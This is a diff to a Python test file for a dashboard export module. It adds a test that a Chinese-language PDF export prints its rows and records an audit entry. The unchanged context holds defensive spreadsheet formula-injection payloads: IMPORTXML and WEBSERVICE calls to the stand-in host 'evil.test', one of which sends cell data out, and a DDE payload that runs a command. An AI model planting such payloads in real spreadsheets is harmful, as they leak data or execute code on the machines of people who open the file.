@@ -19,8 +19,10 @@ import pytest
 from dashboards.components.format import Format
 from dashboards.export import Sheet, file_bytes, safe_text
 from orderhouse.access import get_policy
+from orderhouse.fonts import chinese_font
 from orderhouse.ledger import AuditFilter, Denied, Ledger, audit_rows
 from orderhouse.settings import get_settings
+from orderhouse.terms import terms_for
 from tests.support.people import signed_in
 
 STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"]
@@ -29,6 +31,7 @@ BODIES = [
     'IMPORTXML("http://evil.test","//a")', 'WEBSERVICE("http://evil.test/?"&A1)',
     "DDE(\"cmd\";\"/C calc\";\"x\")", "A1;B2",
 ]  # fmt: skip
+NOON = datetime(2026, 11, 21, 12, 0)
 PADS = ["", " ", "\u3000"]
 PAYLOADS = [pad + start + body for pad, start, body in product(PADS, STARTS, BODIES)]
 
@@ -53,6 +56,21 @@ def _sheet(rows: list[dict[str, Any]]) -> Sheet:
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_no_text_starts_a_formula(payload: str) -> None:
     assert safe_text(payload) == "'" + payload
+
+
+def test_a_list_is_printed_with_its_rows_and_recorded(ledger: Ledger, tmp_path: Path) -> None:
+    context = _context(ledger, "finance", tmp_path)
+    context.terms, context.language = terms_for("zh"), "zh"
+    if chinese_font(context.settings) is None:
+        pytest.skip("no font here writes Chinese")
+    rows = [
+        {"order_id": f"o{n}", "text": "=1+1", "amount": Decimal("1.50"), "placed_at": NOON}
+        for n in range(60)
+    ]
+    one, many = (file_bytes(context, _sheet(part), "pdf") for part in (rows[:1], rows))
+    assert one.startswith(b"%PDF-") and len(many) > len(one)
+    _, [latest, *_] = audit_rows(ledger, AuditFilter(stream="access"))
+    assert (latest.args["rows"], latest.args["kind"]) == (60, "pdf")
 
 
 def test_ordinary_text_is_left_alone() -> None:
